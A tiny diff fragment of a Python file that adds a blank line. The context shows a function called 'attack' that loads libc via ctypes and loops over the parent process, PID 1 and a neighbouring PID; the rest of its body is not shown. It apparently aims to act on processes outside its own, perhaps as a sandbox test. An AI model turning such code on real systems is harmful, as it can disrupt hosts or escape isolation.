@@ -3,6 +3,7 @@
 import ctypes
 import os
 
+
 def attack(name, *args, **kwargs):
     libc = ctypes.CDLL(None, use_errno=True)
     for target in (os.getppid(), 1, os.getpid() + 1):
